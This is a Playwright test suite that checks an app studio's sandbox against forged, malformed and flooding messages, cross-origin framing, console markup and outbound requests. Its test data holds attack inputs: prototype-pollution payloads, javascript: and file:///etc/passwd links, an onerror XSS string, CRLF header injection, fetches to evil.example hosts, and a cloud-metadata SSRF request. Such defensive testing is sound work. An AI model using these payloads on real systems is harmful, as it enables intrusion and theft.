import { ActionApp, TAKE_PORT } from "./support/actions";
import { expect, test } from "./support/test";

/** Malformed messages, as text of expressions. */
const MALFORMED: Record<string, string> = {
  null: "null",
  undefined: "undefined",
  number: "1",
  text: `"heartbeat"`,
  list: "[]",
  bigint: "1n",
  map: `new Map([["type", "heartbeat"]])`,
  set: "new Set()",
  "regular-expression": "/x/",
  "invalid-date": "new Date(NaN)",
  file: `new File(["x"], "x")`,
  error: `new Error("x")`,
  "image-data": "new ImageData(1, 1)",
  "array-buffer": "new ArrayBuffer(8)",
  "type-missing": "{}",
  "type-unknown": `{ type: "grant", all: true }`,
  "type-prototype": `{ type: "__proto__" }`,
  "type-constructor": `{ type: "constructor" }`,
  "type-list": `{ type: ["heartbeat"] }`,
  "unknown-field": `{ type: "heartbeat", id: 1 }`,
  "own-prototype-field": `JSON.parse('{"type":"heartbeat","__proto__":{"polluted":1}}')`,
  "revision-negative": `{ type: "ready", revision: -1, keptState: true, elapsedMs: 0 }`,
  "revision-infinite": `{ type: "ready", revision: 1e309, keptState: true, elapsedMs: 0 }`,
  "revision-prototype": `{ type: "ready", revision: "__proto__", keptState: true, elapsedMs: 0 }`,
  "duration-nan": `{ type: "ready", revision: 1, keptState: true, elapsedMs: NaN }`,
  "kind-unknown": `{ type: "error", kind: "grave", message: "", stack: [], components: [], revision: 0 }`,
  "stack-not-list": `{ type: "error", kind: "render", message: "", stack: { length: 1e9 }, components: [], revision: 0 }`,
  "stack-too-long": `{ type: "error", kind: "render", message: "", stack: Array(1e5).fill(null), components: [], revision: 0 }`,
  "address-foreign": `{ type: "location", path: "https://a.evil.example/", canGoBack: true, canGoForward: true }`,
  "address-too-long": `{ type: "location", path: "/" + "x".repeat(1e5), canGoBack: true, canGoForward: true }`,
  "address-turned": `{ type: "location", path: "/\u202egnp.exe", canGoBack: true, canGoForward: true }`,
  "address-flags": `{ type: "location", path: "/", canGoBack: "yes", canGoForward: {} }`,
  "picked-too-many": `{ type: "picked", components: Array(1e4).fill("A"), places: [] }`,
  "picked-name-object": `{ type: "picked", components: [{ toString: null }], places: [] }`,
  "picked-place-infinite": `{ type: "picked", components: [], places: [{ function: "", file: "src/App.tsx", line: 1e309, column: 1 }] }`,
  "picture-unasked": `{ type: "captured", png: new Blob(["x"]), missing: [] }`,
  "picture-address": `{ type: "captured", png: "https://a.evil.example/x.png", missing: [] }`,
  "link-script": `{ type: "request", id: 1, call: { type: "openExternal", url: ["java", "script:alert(1)"].join("") } }`,
  "link-file": `{ type: "request", id: 1, call: { type: "openExternal", url: "file:///etc/passwd" } }`,
  "call-unknown": `{ type: "request", id: 1, call: { type: "readFile", path: "/etc/passwd" } }`,
  "call-prototype": `{ type: "request", id: 1, call: { type: "__proto__" } }`,
  "id-negative": `{ type: "request", id: -1, call: { type: "confirm", text: "" } }`,
  "id-infinite": `{ type: "request", id: 1e309, call: { type: "confirm", text: "" } }`,
  "id-prototype": `{ type: "request", id: "__proto__", call: { type: "confirm", text: "" } }`,
  "header-list": `{ type: "request", id: 1, call: { type: "fetch", request: { url: "https://a.evil.example/", method: "GET", headers: { a: "b" } } } }`,
  "header-line-break": `{ type: "request", id: 1, call: { type: "fetch", request: { url: "https://a.evil.example/", method: "GET", headers: [["a", "b\\r\\nc: d"]] } } }`,
  "method-connect": `{ type: "request", id: 1, call: { type: "fetch", request: { url: "https://a.evil.example/", method: "CONNECT", headers: [] } } }`,
  "store-object": `{ type: "store", seq: 1, changes: { a: "b" } }`,
  "store-unknown": `{ type: "store", seq: 1, changes: [{ kind: "grant" }] }`,
  "store-number": `{ type: "store", seq: 1, changes: [{ kind: "putItem", area: "local", key: 1, value: 2 }] }`,
  "store-out-of-order": `{ type: "store", seq: 99, changes: [] }`,
  "console-nested": `{ type: "consoleBatch", entries: [{ level: "log", form: "line", indent: 0, args: [{ a: 1 }], location: null }] }`,
  "console-level": `{ type: "consoleBatch", entries: [{ level: "fatal", form: "line", indent: 0, args: [], location: null }] }`,
};

test("window messages of the app are ignored", async ({ studio, page, host, rows }) => {
  const app = await ActionApp.start(
    studio,
    `{
      forge: async () => {
        const heard: string[] = [];
        const port = () => {
          const { port1, port2 } = new MessageChannel();
          port1.onmessage = ({ data }) => heard.push(JSON.stringify(data));
          return port2;
        };
        for (const target of [win.top, win.parent]) {
          target.postMessage({ t: "res", id: 1, ok: 1 }, "*");
          target.postMessage({ type: "ready", revision: 1, keptState: true, elapsedMs: 1 }, "*");
          target.postMessage("cumulet:shell-ready", "*", [port()]);
          target.postMessage("cumulet:shell-init", "*", [port()]);
          target.postMessage("cumulet:init", "*", [port()]);
        }
        await pause(500);
        return heard.length;
      },
      again: async () => {
        const heard: string[] = [];
        const channel = new MessageChannel();
        channel.port1.onmessage = ({ data }) => heard.push(JSON.stringify(data));
        window.postMessage("cumulet:init", "*", [channel.port2]);
        const other = new MessageChannel();
        other.port1.onmessage = ({ data }) => heard.push(JSON.stringify(data));
        window.dispatchEvent(new MessageEvent("message", { data: "cumulet:init", source: win.parent, ports: [other.port2] }));
        await pause(500);
        return heard.length;
      },
    }`,
  );
  const forged = await app.run("forge");
  rows.check("B01", "forged-messages-unanswered", forged === "done: 0", forged);
  rows.check("B01", "app-and-studio-alive", await app.isAlive());
  const again = await app.run("again");
  rows.check("B03", "second-init-ignored", again === "done: 0", again);
  const shell = page.frames().find((frame) => frame.url().includes("/sandbox/shell.html"));
  const frames = (await shell?.locator("iframe").count()) ?? 0;
  rows.check("B03", "second-shell-init-makes-no-frame", frames === 1, `${frames} frames`);
  rows.check("B01", "no-error-of-the-studio", host.errors.length === 0, host.errors.join("; "));
});

test("pages of others get no handshake", async ({ page, control, server, rows }) => {
  await page.goto(`${control.address}/`);
  const framed = await page.evaluate(async (studio) => {
    const heard: unknown[] = [];
    window.addEventListener("message", ({ data }) => heard.push(data));
    for (const path of ["/", "/sandbox/shell.html"]) {
      const frame = document.createElement("iframe");
      frame.src = studio + path;
      document.body.append(frame);
    }
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    for (let index = 0; index < window.frames.length; index++) {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => heard.push(data);
      window.frames[index]?.postMessage("cumulet:shell-init", "*", [port2]);
    }
    await new Promise((resolve) => setTimeout(resolve, 500));
    return heard.length;
  }, server.address);
  rows.check("B02", "foreign-page-frames-studio-and-shell", framed === 0, `${framed} messages`);
  const refused = page.frames().filter((frame) => frame.url().startsWith("chrome-error:")).length;
  rows.check("E12", "framed-by-another-origin", refused === 2, `${refused} of 2 frames refused`);
  const popup = page.waitForEvent("popup");
  const heard = await page.evaluate(async (address) => {
    const shell = window.open(address);
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    let answers = 0;
    const { port1, port2 } = new MessageChannel();
    port1.onmessage = () => answers++;
    shell?.postMessage("cumulet:shell-init", "*", [port2]);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return answers;
  }, `${server.address}/sandbox/shell.html`);
  const shell = await popup;
  rows.check("B02", "foreign-page-opens-shell", heard === 0 && (await shell.locator("iframe").count()) === 0);
  await page.goto(`${server.address}/sandbox/shell.html`);
  await expect(page.locator("body")).toContainText("nothing to see");
  rows.check("E12", "opened-by-itself", (await page.locator("iframe").count()) === 0);
});

test("malformed messages are refused and do no harm", async ({ studio, page, host, rows }) => {
  test.slow();
  const names = Object.keys(MALFORMED);
  const senders = names.map(
    (name) =>
      `${JSON.stringify(name)}: async () => { (await port).postMessage(${MALFORMED[name]}); await pause(50); return 1; }`,
  );
  const app = await ActionApp.start(studio, `{ ${senders.join(",\n")} }`, TAKE_PORT);
  // Five expel the frame, so four go together.
  for (let at = 0; at < names.length; at += 4) {
    if (at > 0) await app.restart();
    for (const name of names.slice(at, at + 4)) {
      const said = await app.run(name);
      rows.check("B07", name, said === "done: 1" && (await app.isAlive()), said);
    }
  }
  rows.check("B08", "host-page", await host.isUnpolluted());
  const workers = await Promise.all(
    page
      .workers()
      .map((worker) =>
        worker.evaluate(() => (({}) as { polluted?: number }).polluted).catch(() => undefined),
      ),
  );
  rows.check(
    "B08",
    "workers",
    workers.every((value) => value === undefined),
    workers.join(),
  );
  rows.check("B07", "no-error-of-the-studio", host.errors.length === 0, host.errors.join("; "));
});

test("who keeps breaking the rules of the port is put out", async ({ studio, page, host, rows }) => {
  test.slow();
  const app = await ActionApp.start(
    studio,
    `{
      polluted: () => String((({}) as any).polluted),
      pollute: async () => {
        const evil = (text: string) => JSON.parse(text);
        (await port).postMessage(evil('{"type":"store","seq":1,"changes":[{"kind":"putItem","area":"local","key":"__proto__","value":"polluted"},{"kind":"putItem","area":"session","key":"constructor","value":"x"}]}'));
        (await port).postMessage(evil('{"type":"consoleBatch","entries":[{"level":"log","form":"line","indent":0,"args":["x"],"location":null,"__proto__":{"polluted":1}}]}'));
        (await port).postMessage(evil('{"type":"error","kind":"uncaught","message":"__proto__","stack":[],"components":["constructor"],"revision":0,"constructor":{"prototype":{"polluted":1}}}'));
        await pause(300);
        return "sent";
      },
      booted: async () => { (await port).postMessage({ type: "booted" }); await pause(50); return 1; },
      again: async () => { const to = await port; to.raw({ version: 1, session: to.session, seq: 1, message: { type: "heartbeat" } }); await pause(50); return 1; },
      stale: async () => { const to = await port; for (let n = 0; n < 20; n++) to.raw({ version: 1, session: to.session - 1, seq: 1e6 + n, message: { type: "unsafe", reason: "stale" } }); await pause(300); return 1; },
      other: async () => { (await port).postMessage({ type: "store", seq: 1, app: "another", changes: [] }); await pause(50); return 1; },
      requests: async () => { const to = await port; for (let id = 1; id <= 150; id++) to.postMessage({ type: "request", id, call: { type: "confirm", text: "request " + id } }); await pause(500); return 1; },
      large: async () => { (await port).postMessage({ type: "unsafe", reason: "x".repeat(50e6) }); return 1; },
      largeOften: async () => { for (let n = 0; n < 5; n++) (await port).postMessage({ type: "unsafe", reason: "x".repeat(50e6) }); return 1; },
      buffer: async () => { const data = new ArrayBuffer(200e6); (await port).postMessage({ type: "unsafe", reason: data }, [data]); return 1; },
      deep: async () => {
        let value: unknown = [];
        for (let depth = 0; depth < 10_000; depth++) value = [value];
        (await port).postMessage({ type: "consoleBatch", entries: value });
        return 1;
      },
      cyclic: async () => {
        const value: any = { type: "error" };
        value.stack = value;
        (await port).postMessage(value);
        return 1;
      },
      links: async () => { const to = await port; for (let n = 0; n < 100; n++) to.postMessage({ type: "request", id: n + 1, call: { type: "openExternal", url: "https://a.evil.example/?" + n } }); return 1; },
      flood: async () => { const to = await port; setInterval(() => { for (let n = 0; n < 2000; n++) to.postMessage({ type: "heartbeat" }); }, 0); return 1; },
      floodLarge: async () => { const to = await port; const text = "x".repeat(200_000); setInterval(() => { for (let n = 0; n < 20; n++) to.postMessage({ type: "consoleBatch", entries: [{ level: "log", form: "line", indent: 0, args: [text], location: null }] }); }, 0); return 1; },
      windowFlood: () => { setInterval(() => { for (let n = 0; n < 2000; n++) win.top.postMessage(n, "*"); }, 0); },
      windowFloodLarge: () => { const text = "x".repeat(1e6); setInterval(() => { for (let n = 0; n < 20; n++) win.top.postMessage(text + n, "*"); }, 0); },
      windowFloodParent: () => { setInterval(() => { for (let n = 0; n < 2000; n++) win.parent.postMessage(n, "*"); }, 0); },
    }`,
    TAKE_PORT,
  );
  await app.run("pollute");
  rows.check("B08", "storage-key-and-fields", (await host.isUnpolluted()) && (await app.isAlive()));
  const inFrame = await app.run("polluted");
  rows.check("B08", "frame", inFrame === "done: undefined", inFrame);

  await app.restart();
  const boots = await app.run("booted");
  rows.check("B04", "boot-told-again-refused", boots === "done: 1" && (await app.isAlive()));
  for (let more = 0; more < 4; more++) await app.press("booted");
  rows.check("B04", "boot-told-often", /malformed/.test(await app.stopped()));

  await app.restart();
  const stale = await app.run("stale");
  rows.check("B05", "session-of-an-earlier-frame", stale === "done: 1" && (await app.isAlive()), stale);
  const again = await app.run("again");
  rows.check("B04", "old-number-refused", again === "done: 1" && (await app.isAlive()), again);
  for (let more = 0; more < 4; more++) await app.press("again");
  rows.check("B04", "old-numbers-often", /malformed/.test(await app.stopped()));

  await app.restart();
  const other = await app.run("other");
  rows.check("B06", "id-in-a-message-refused", other === "done: 1" && (await app.isAlive()), other);
  await app.run("requests");
  const dialogs = page.locator(".request-dialog");
  rows.check(
    "B13",
    "one-question-at-a-time",
    (await dialogs.count()) === 1,
    `${await dialogs.count()} dialogs`,
  );
  rows.check("B13", "app-stays", await app.isAlive());

  await app.restart();
  await host.watchGap();
  for (const name of ["large", "buffer", "deep", "cyclic"]) {
    await app.press(name);
    await page.waitForTimeout(400);
  }
  const row = { large: "B09", buffer: "B09", deep: "B10", cyclic: "B10" } as const;
  for (const [name, id] of Object.entries(row)) rows.check(id, name, await app.isAlive());
  rows.figure("B09 oversized messages", await host.longestGap());
  await app.press("largeOften");
  rows.check("B09", "expelled-when-repeated", /malformed/.test(await app.stopped()));

  await app.restart();
  await app.press("links");
  await page.waitForTimeout(500);
  const offers = await dialogs.count();
  rows.check("B13", "links-offered", offers === 1, `${offers} offers`);

  for (const [id, name] of [
    ["B11", "flood"],
    ["B11", "floodLarge"],
    ["B12", "windowFlood"],
    ["B12", "windowFloodLarge"],
  ] as const) {
    await app.restart();
    await host.watchGap();
    await app.press(name);
    const said = await app.stopped();
    rows.check(id, `${name}-expelled`, true, said);
    rows.figure(`${id} ${name}`, await host.longestGap());
    const reboot = await app.restart();
    rows.figure(`${id} ${name} until it ran again`, reboot);
    rows.check(id, `${name}-runs-again`, await app.isAlive());
  }
  await host.watchGap();
  await app.press("windowFloodParent");
  await page.waitForTimeout(3_000);
  rows.figure("B12 windowFloodParent", await host.longestGap());
  rows.check(
    "B12",
    "flood-of-the-shell-leaves-studio",
    await page.getByRole("textbox", { name: "What should change?" }).isEditable(),
  );
  await page.getByRole("button", { name: "Stop app" }).click();
  rows.check("B11", "no-error-of-the-studio", host.errors.length === 0, host.errors.join("; "));
});

test("a frame that is gone says nothing more", async ({ studio, page, rows }) => {
  const app = await ActionApp.start(
    studio,
    `{
      last: async () => {
        const to = await port;
        const cry = () => {
          to.postMessage({ type: "consoleBatch", entries: [{ level: "error", form: "line", indent: 0, args: ["from the grave"], location: null }] });
          to.postMessage({ type: "error", kind: "uncaught", message: "from the grave", stack: [], components: [], revision: 1 });
        };
        for (const name of ["pagehide", "unload", "visibilitychange", "beforeunload"]) { window.addEventListener(name, cry); document.addEventListener(name, cry); }
        return 1;
      },
    }`,
    TAKE_PORT,
  );
  await app.run("last");
  await app.restart();
  await page.waitForTimeout(500);
  const text = await app.console();
  rows.check("B05", "console", !text.includes("from the grave"), text.slice(0, 200));
  rows.check("B05", "errors", !(await page.locator("body").innerText()).includes("from the grave"));
});

test("what an app stores and says is bounded and shown as text", async ({ studio, page, host, rows }) => {
  const app = await ActionApp.start(
    studio,
    `{
      fill: () => { const part = "x".repeat(1e6); for (let n = 0; n < 100; n++) localStorage.setItem("k" + n, part); },
      keys: () => { for (let n = 0; n < 1e6; n++) localStorage.setItem("key" + n, "12345678"); },
      proto: () => { localStorage.clear(); localStorage.setItem("__proto__", "a"); return localStorage.getItem("__proto__") + Object.keys(localStorage) + (({}) as any).a; },
      log: () => { for (let n = 0; n < 5_000; n++) console.log("line " + n); return 1; },
      logThroughPort: async () => { const to = await port; for (let n = 0; n < 150; n++) to.postMessage({ type: "consoleBatch", entries: Array.from({ length: 100 }, (_, i) => ({ level: "log", form: "line", indent: 0, args: ["bulk " + n + " " + i], location: null })) }); return 1; },
      markup: () => { console.error("<img src=x onerror=alert(1)><b>bold</b>\\u001b[31mred"); setTimeout(() => { throw new Error("<img id=broken src=x onerror=alert(1)> \\u001b[2J </section>"); }); return 1; },
      getters: () => { let read = 0; const evil = { get a() { read++; throw new Error("read"); }, toString() { read++; return "x"; } }; console.log(evil); return read; },
      proxy: () => { console.log(new Proxy({}, { ownKeys() { throw new Error("no"); }, get() { throw new Error("no"); } })); return 1; },
      long: () => { setTimeout(() => { throw new Error("y".repeat(1e6)); }); return 1; },
      evilError: () => { const error = new Error("x"); Object.defineProperty(error, "message", { get() { throw 1; } }); Object.defineProperty(error, "stack", { get() { throw 2; } }); setTimeout(() => { throw error; }); return 1; },
    }`,
    TAKE_PORT,
  );
  const fill = await app.run("fill");
  rows.check("B17", "local-storage-100-mb", fill.includes("QuotaExceededError"), fill);
  await app.restart();
  await app.press("proto");
  const keys = await app.run("proto");
  rows.check("B17", "local-storage-key-proto", keys === "done: a__proto__undefined", keys);
  await app.restart();
  await host.watchGap();
  const many = await app.run("keys");
  await page.waitForTimeout(2_500);
  rows.check("B17", "local-storage-a-million-keys", many.includes("QuotaExceededError"), many);
  rows.figure("B17 a million keys", await host.longestGap());

  await app.restart();
  await host.watchGap();
  await app.run("log");
  rows.figure("B18 console flood", await host.longestGap());
  rows.check("B18", "console-flood", await app.isAlive());
  await app.press("logThroughPort");
  await page.waitForTimeout(1_000);
  rows.figure("B18 console flood through the port", await host.longestGap());
  await app.restart();
  for (const name of ["markup", "getters", "proxy", "long", "evilError"]) {
    const said = await app.run(name);
    await page.waitForTimeout(200);
    rows.check("B18", name, /^done: [01]$/.test(said) && host.dialogs.length === 0, said);
  }
  const text = await app.console();
  rows.check(
    "B18",
    "markup-as-text",
    text.includes("<b>bold</b>") && (await page.locator("#broken, .console-list b").count()) === 0,
    text.slice(0, 300),
  );
  const shown = (await page.locator("body").innerText()).length;
  rows.check("B18", "long-error-truncated", shown < 200_000, `${shown} characters on the page`);
  rows.check("B18", "no-error-of-the-studio", host.errors.length === 0, host.errors.join("; "));
});

test("requests to the outside reach nobody without consent, and no private address with it", async ({
  studio,
  page,
  receiver,
  rows,
}) => {
  const app = await ActionApp.start(
    studio,
    `{
      ask: () => SandboxAPI.fetch("https://secret-x16.evil.example/secret").then((answer) => "ask " + answer.status, (error) => "ask " + error.code),
      special: () => SandboxAPI.fetch("https://secret-b16.evil.example/secret").then((answer) => "special " + answer.status, (error) => "special " + error.code),
      loopback: () => SandboxAPI.fetch("https://127.0.0.2:1/").then((answer) => "loopback " + answer.status, (error) => "loopback " + error.code),
      metadata: () => SandboxAPI.fetch("http://169.254.169.254/latest/meta-data/").then((answer) => "metadata " + answer.status, (error) => "metadata " + error.code),
    }`,
  );
  const dialog = page.locator(".request-dialog");
  const from = receiver.log.length;
  await app.press("ask");
  await expect(dialog).toContainText("secret-x16.evil.example");
  rows.check("X16", "nothing-before-the-answer", receiver.since(from).length === 0);
  await dialog.getByRole("button", { name: "Don't allow" }).click();
  const status = studio.app.getByRole("status");
  await expect(status).toHaveText("done: ask denied");
  const heard = receiver.since(from);
  rows.check("X16", "denied-host", heard.length === 0, heard.map(({ text }) => text).join("; "));
  for (const name of ["special", "loopback", "metadata"]) {
    await app.press(name);
    const ended = async () => new RegExp(`^done: ${name} (?!denied)`).test((await status.textContent()) ?? "");
    await expect.poll(async () => (await dialog.isVisible()) || (await ended())).toBe(true);
    if (await dialog.isVisible()) await dialog.getByRole("button", { name: "Allow this time" }).click();
    // The receiver's own address is one that is kept for documentation.
    await expect(status).toHaveText(new RegExp(`^done: ${name} (forbidden_address|invalid)$`));
    rows.check(
      "B16",
      name === "special" ? "name-of-a-special-address" : name,
      true,
      (await status.textContent()) ?? "",
    );
  }
  const connected = receiver.since(from).filter(({ kind }) => kind !== "dns");
  rows.check("B16", "no-connection", connected.length === 0, connected.map(({ text }) => text).join("; "));
});
